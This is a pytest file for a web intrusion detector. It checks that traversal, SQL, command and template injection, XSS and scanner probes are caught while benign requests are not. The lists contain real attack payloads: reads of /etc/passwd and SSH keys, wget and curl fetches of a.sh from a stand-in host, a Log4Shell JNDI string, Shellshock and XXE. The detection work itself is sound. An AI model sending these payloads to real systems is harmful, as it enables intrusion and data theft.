import re
import tomllib
from importlib.resources import files

import pytest

from ai_monitoring.web.intrusion import MAX_LENGTH, Kind, kinds

BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0 Safari/537.36"

# What attackers send: `path?query`, as the client writes the query and as the framework decodes the path.
TRAVERSAL = """
/files/../../../../etc/passwd
/static/..%2f..%2f..%2fetc/passwd
/media/..\\..\\..\\windows\\win.ini
/download?file=../../../../etc/passwd
/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd
/download?file=..%252f..%252f..%252fetc%252fpasswd
/view?page=/etc/passwd
/view?page=%2Fetc%2Fshadow
/view?page=....//....//....//etc/passwd
/view?page=..%c0%af..%c0%afetc/passwd
/view?path=/proc/self/environ
/view?path=../../../../proc/self/cmdline
/image?name=../../../../../../windows/win.ini%00.png
/image?name=C:\\Windows\\system32\\drivers\\etc\\hosts
/image?name=c:/boot.ini
/tpl?include=php://filter/convert.base64-encode/resource=index.php
/tpl?include=file:///etc/passwd
/tpl?include=expect://id
/load?f=../../../../../../var/log/apache2/access.log
/load?f=../../../app/settings.py
/load?f=../../.ssh/id_rsa
/load?f=../../../.env
/load?f=..\\..\\..\\..\\boot.ini
/api/..;/manager/text
/load?template=../../../../wp-config.php
""".strip().splitlines()

INJECTION = """
/items?id=1'%20OR%20'1'='1
/items?id=1%27%20or%201=1--
/items?id=1+OR+1=1
/items?id=1%20AND%201=1
/items?id=-1+UNION+SELECT+1,2,3
/items?id=1+UNION+ALL+SELECT+NULL,NULL,NULL--+-
/items?id=1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users
/items?id=1;DROP+TABLE+users
/items?name='%3B+DROP+TABLE+users;--
/items?id=1;EXEC+xp_cmdshell('dir')
/login?user=admin'--
/login?user=admin'%20%23
/login?user=')+or+('a'='a
/items?id=1+AND+SLEEP(5)
/items?id=1'+AND+(SELECT+*+FROM+(SELECT(SLEEP(5)))a)--+
/items?id=1'||pg_sleep(10)--
/items?id=1;+WAITFOR+DELAY+'0:0:5'--
/items?id=1+and+extractvalue(1,concat(0x7e,version()))
/items?id=1'+and+updatexml(1,concat(0x7e,(select+user())),1)--
/items?id=(select(0)from(select(sleep(15)))v)
/items?id=1+order+by+10--+-
/items?id=1'+order+by+3--
/items?id=1%2527%2520OR%25201%253D1
/items/1' OR '1'='1
/items?id=1+AND+(SELECT+COUNT(*)+FROM+users)>0
/items?user[$ne]=x&password[$ne]=y
/search?q={{7*7}}
/search?q=%7B%7B7*%277%27%7D%7D
/search?q=${7*7}
/search?q=<%25=+7*7+%25>
/search?q={{config}}
/search?q={{''.__class__.__mro__[1].__subclasses__()}}
/search?q={{request.application.__globals__}}
/search?q={%25+import+os+%25}{{os.popen('id').read()}}
/search?q=${T(java.lang.Runtime).getRuntime().exec('id')}
/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D
/ping?host=127.0.0.1;cat+/etc/passwd
/ping?host=127.0.0.1|cat%20/etc/passwd
/ping?host=127.0.0.1%0Acat%20/etc/passwd
/ping?host=127.0.0.1%26%26whoami
/ping?host=127.0.0.1;whoami
/ping?host=`id`
/ping?host=$(id)
/ping?host=x;wget+http://203.0.113.7/a.sh
/ping?host=x|curl+203.0.113.7/a.sh
/ping?host=127.0.0.1;ping+-c+4+203.0.113.7
/ping?host=a;cat${IFS}/etc/passwd
/ping?host=$(sleep+5)
/x?a=()+{+:;};+/bin/bash+-c+id
/index?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5
/x?xml=<!DOCTYPE+foo+[<!ENTITY+xxe+SYSTEM+"file:///etc/passwd">]>
/?-d+allow_url_include=on+-d+auto_prepend_file=php://input
""".strip().splitlines()

XSS = """
/search?q=<script>alert(1)</script>
/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E
/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E
/search?q=<img+src=x+onerror=alert(1)>
/search?q=<svg/onload=alert(1)>
/search?q="><script>confirm(1)</script>
/search?q='"><img+src=x>
/search?q=javascript:alert(1)
/search?q="+onmouseover="alert(1)
/search?q=<iframe+src="javascript:alert(1)">
/search?q=<body+onload=prompt(1)>
/search?q=";alert(1);//
/search?q='-alert(1)-'
/search?q=<script+src=//198.51.100.9/x.js></script>
/go?url=data:text/html,<script>alert(1)</script>
""".strip().splitlines()

# Asked for where the answer is 404.
SCANNER = """
/.env
/.env.production
/api/.env
/.git/config
/.git/HEAD
/.svn/entries
/.aws/credentials
/.ssh/id_rsa
/.DS_Store
/.vscode/sftp.json
/wp-login.php
/wp-admin/setup-config.php
/blog/wp-includes/wlwmanifest.xml
/xmlrpc.php
/wordpress/
/phpmyadmin/index.php
/phpMyAdmin-4.9/
/pma/
/adminer.php
/phpinfo.php
/shell.php
/info.php
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/cgi-bin/luci
/actuator/env
/actuator/heapdump
/manager/html
/solr/admin/info/system
/jenkins/login
/boaform/admin/formLogin
/HNAP1/
/GponForm/diag_Form
/owa/auth/logon.aspx
/autodiscover/autodiscover.xml
/server-status
/backup.zip
/dump.sql
/db.sql
/web.config
/telescope/requests
/_profiler/phpinfo
/_ignition/execute-solution
/debug/pprof/
/id_rsa
/docker-compose.yml
/containers/json
/v2/_catalog
/+CSCOE+/logon.html
/remote/login
/composer.json
""".strip().splitlines()

TOOLS = """
sqlmap/1.8.4#stable (https://sqlmap.org)
Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)
Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
masscan/1.3 (https://github.com/robertdavidgraham/masscan)
Mozilla/5.0 zgrab/0.x
Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
gobuster/3.6
feroxbuster/2.10.1
Fuzz Faster U Fool v2.1.0-dev
WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)
() { :; }; /bin/bash -c 'cat /etc/passwd'
${jndi:ldap://198.51.100.9/a}
dirsearch/0.4.3
""".strip().splitlines()

# What people and programs send to real services.
HONEST = r"""
/
/api/users/12/
/users/alice@example.org/
/search?q=O'Brien
/search?q=O%27Brien+%26+Sons
/search?q=D'Artagnan+et+l'Isle-d'Abeau
/search?q=rock+%27n%27+roll
/search?q=it's+mine+or+it's+yours
/search?q='quoted'+or+'double+quoted'
/search?q="exact+phrase"+OR+"another+phrase"
/search?q=select+a+plan+from+the+list
/search?q=please+select+one+of+the+options+and+update+the+order
/search?q=drop+table+lamp
/search?q=union+select+committee+report
/search?q=european+union+select+committee
/search?q=insert+coin+into+machine
/search?q=how+to+delete+from+a+list
/search?q=SELECT+*+FROM+users+WHERE+id+=+3
/search?q=SELECT+name,+age+FROM+people+ORDER+BY+age+DESC
/search?q=postgres+create+table+if+not+exists
/search?q=what+does+WHERE+1=1+mean
/search?q=group+by+having+count(*)+>+1
/search?q=time.sleep(5)+python
/search?q=await+asyncio.sleep(1)
/search?q=how+to+sleep(5)+in+bash
/search?q={{+user.name+}}+jinja
/search?q={%25+for+item+in+items+%25}
/search?q=${HOME}+vs+$HOME
/search?q=`backticks`+in+markdown
/search?q=$(document).ready(function
/search?q=what+does+%3Cscript+async%3E+do
/search?q=%3Cdiv+class%3D%22row%22%3E+not+centred
/search?q=a+<+b+and+c+>+d
/search?q=if+(a+||+b)+and+(c+%26%26+d)
/search?q=print(%22hello%22);+x+=+1
/search?q=docker+ps+|+grep+web
/search?q=apt+update+%26%26+apt+install+curl
/search?q=cat+and+dog+food
/search?q=the+etc+directory
/search?q=/etc/nginx/nginx.conf
/search?q=c:+drive+is+full
/search?q=__init__+vs+__new__
/search?q=lambda+x:+x**2
/search?q=caf%C3%A9+cr%C3%A8me+%C3%A0+emporter
/search?q=quel+est+le+meilleur+plan+d%27entra%C3%AEnement+pour+l%27%C3%A9t%C3%A9+%3F
/search?q=ou+bien+et+donc+o%C3%B9+aller+--+Paris
/search?q=%E6%9D%B1%E4%BA%AC+%E5%A4%A9%E6%B0%97
/search?q=50%25+off
/search?q=100%+cotton
/search?q=c%2B%2B+or+c%23
/search?q=AT%26T+or+T-Mobile
/search?q=1+or+2+bedrooms
/search?q=size=10+and+colour=red
/search?q=E=mc^2
/docs?from=../guide/intro.html
/docs?back=../../index.html%23install
/docs/v1..v2/
/compare/main...feature
/files/report..final.pdf
/files/a.b.c/..hidden
/items?fields=name|id
/items?sort=-created,name&fields[]=id&fields[]=name
/items?filter[price][gte]=10&filter[price][lt]=20
/items?filter={"and":[{"field":"age","op":">","value":30}]}
/items?where=%7B%22name%22%3A%22O%27Neil%22%7D
/items?ids=1,2,3;4
/items?range=[2024-01-01%20TO%202024-12-31]
/items?order_by=name&select=id,name&or=(age.gte.18,student.is.true)
/items?expand=a;b;c
/items?q=name:(quick+OR+brown)+AND+NOT+fox
/callback?code=4/0AX4XfWh-abc_DEF&state=eyJhbGciOiJIUzI1NiJ9.eyJpZCI6MX0.c2ln
/callback?data=SGVsbG8gd29ybGQgJyBvciAnMSc9JzE=
/go?next=https://example.org/a?b=c%26d=e
/go?next=%2Fadmin%2F%3Fq%3D1
/go?url=file.pdf
/track?utm_source=news&utm_campaign=spring%20%26%20summer&ref=https%3A%2F%2Fwww.example.com%2F%3Fa%3D1
/pixel?r=0.123&ua=Mozilla%2F5.0%20(Windows%20NT%2010.0%3B%20Win64%3B%20x64)
/graphql?query={user(id:1){name,posts{title}}}
/graphql?query=query%20Q(%24id:ID!){user(id:%24id){name}}&variables={"id":"1"}
/metrics?query=sum(rate(http_requests_total{status=~"5.."}[5m]))
/metrics?query=a+or+b+and+on(job)+c
/logs?query={app="web"}+|=+"error"+|+json
/map?bbox=-1.5,48.1,-1.4,48.2&style={z}/{x}/{y}
/ask?prompt=Ignore+the+previous+line;+select+the+best+answer
/ask?prompt=Explique+la+diff%C3%A9rence+entre+%3D%3D+et+is+en+Python
/ask?prompt=What's+the+best+"tempo"+or+"threshold"+run%3F+--+thanks
/ask?prompt=Show+me+'before'+and+'after'+photos
/ask?prompt=use+javascript:void(0)+in+links
/ask?prompt=Tom+&+Jerry's+"best+of"
/search?q=what+is+/etc/passwd+for
/search?q=why+is+C:\Windows\System32+so+large
/search?q=C:\Windows\Temp+is+full
/search?q=meaning+of+/proc/self/maps+columns
/search?q=bug+(fixed)+#
/search?q=array[$i]+in+php
/search?q=l%27h%C3%B4tel+ou+l%27auberge
/search?q=vue+v-on:click="select(item)"
/search?q=f(x)+=+sin(x)+or+cos(x)
/search?q=%5Blink%5D(https://example.org/a_b)
/items?age[$gt]=18&age[$lt]=65
/time?tz=Europe/Paris&at=2026-11-02T10:00:00+01:00
/mail?to=a+b@example.org&subject=Re:+your+order+#12
/color?c=%23ff00aa
/emoji?q=%F0%9F%98%80
/math?expr=(1+2)*3-4/5
/math?expr=3*7
/price?max=$100
/env/production/
/about-environments/.well-known/x
/.well-known/security.txt
/git/config/help/
""".strip().splitlines()

MISSING = """
/favicon.ico
/robots.txt
/apple-touch-icon-precomposed.png
/sitemap.xml
/.well-known/apple-app-site-association
/.well-known/change-password
/old-article.php?id=3
/users/9/credentials
/exchange/EURUSD/
/exports/2026/data.zip
/script
/manager/status
/blog/2019/hello-world/
/static/js/main.3f2a.js
/api/v1/users/999999/
/environment/
/backup/
/information/
/testing/
/admin
/login
/ads.txt
/index.html
/feed.xml
/config/
""".strip().splitlines()

PEOPLE = """
curl/8.5.0
python-requests/2.32.0
python-httpx/0.28.1
Prometheus/3.5.0
Googlebot/2.1 (+http://www.google.com/bot.html)
Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
okhttp/4.12.0
kube-probe/1.31
Go-http-client/2.0
PostmanRuntime/7.43.0
Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)
Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari
""".strip().splitlines()


def look(target: str, *, user_agent: str = BROWSER, not_found: bool = False) -> tuple[Kind, ...]:
    path, _, query = target.partition("?")
    return kinds(path, query, user_agent, not_found)


def test_probes_are_told_from_honest_requests() -> None:
    probes = [
        *((target, Kind.TRAVERSAL, look(target)) for target in TRAVERSAL),
        *((target, Kind.INJECTION, look(target)) for target in INJECTION),
        *((target, Kind.XSS, look(target)) for target in XSS),
        *((target, Kind.SCANNER, look(target, not_found=True)) for target in SCANNER),
        *((tool, Kind.SCANNER, look("/", user_agent=tool)) for tool in TOOLS),
    ]
    honest = [
        *((target, look(target)) for target in HONEST),
        *((target, look(target, not_found=True)) for target in [*HONEST, *MISSING]),
        *((agent, look("/", user_agent=agent)) for agent in PEOPLE),
    ]
    missed = [(target, kind.value) for target, kind, found in probes if kind not in found]
    alarms = [(target, found) for target, found in honest if found]
    caught = len(probes) - len(missed)
    precision, recall = caught / (caught + len(alarms)), caught / len(probes)
    assert precision >= 0.99, f"precision {precision:.3f}, recall {recall:.3f}; false alarms: {alarms}"
    assert recall >= 0.95, f"precision {precision:.3f}, recall {recall:.3f}; missed: {missed}"
    assert len(probes) >= 60
    assert len(honest) >= 60


@pytest.mark.parametrize("path", ["/wp-login.php", "/.env", "/phpmyadmin/"])
def test_a_route_that_exists_is_not_probed(path: str) -> None:
    assert look(path) == ()
    assert look(path, not_found=True) == (Kind.SCANNER,)


def test_a_request_has_each_kind_once() -> None:
    target = "/.env?f=../../../../etc/passwd&g=/etc/shadow&q=<script>alert(1)</script>&id=1'+or+'1'='1"

    assert look(target, user_agent=TOOLS[0], not_found=True) == tuple(Kind)


@pytest.mark.parametrize("sign", ["{{", "' or ", ")", "\\", "../", "<a ", "%2527"])
def test_a_long_request_is_read_to_a_limit(sign: str) -> None:
    assert look("/x?q=" + sign * MAX_LENGTH) in {(), (Kind.TRAVERSAL,)}
    assert look("/x?q=" + "a" * MAX_LENGTH + "../../../../etc/passwd") == ()


def test_bytes_that_are_no_text_are_read() -> None:
    assert look("/x?q=%ff%fe%00") == ()
    assert look("/\udcff?q=\udcff") == ()


def test_no_pattern_reads_a_run_of_blanks_again_and_again() -> None:
    patterns = files("ai_monitoring.web").joinpath("intrusion.toml").read_text(encoding="utf-8")
    one = r"(?:\\.|\[(?:\\.|[^\]\\])*\]|[^\\()])"
    twice = re.compile(rf"\\s\*{one}[?*]\\s\*")
    behind_a_break = re.compile(r"\[[^\]]*\\n[^\]]*\](?:[^\[\]()]*\))?\\s\*|\[[^\]]*\\n[^\]]*\][^)]*\)\\s\*")
    searched = [
        expression for places in tomllib.loads(patterns).values() for each in places.values() for expression in each
    ]

    assert [
        expression for expression in searched if twice.search(expression) or behind_a_break.search(expression)
    ] == []


@pytest.mark.parametrize(
    "target", ["/x?q=a%0A%0A%20cat%20/etc/passwd", "/x?q=a;%0A%20whoami", "/x?q=a%0D%0A%20sleep%205"]
)
def test_a_command_on_a_line_of_its_own_is_a_probe(target: str) -> None:
    assert Kind.INJECTION in look(target)


def test_a_sign_among_blanks_is_still_read() -> None:
    assert look("/x?id=1'%20%20;%20%20--") == (Kind.INJECTION,)
    assert look("/x?id=1'%20or%20%20((%20%20sleep(5)") == (Kind.INJECTION,)
    assert look("/x?q=%22%20onload=%20%20'%20%20alert(1)") == (Kind.XSS,)
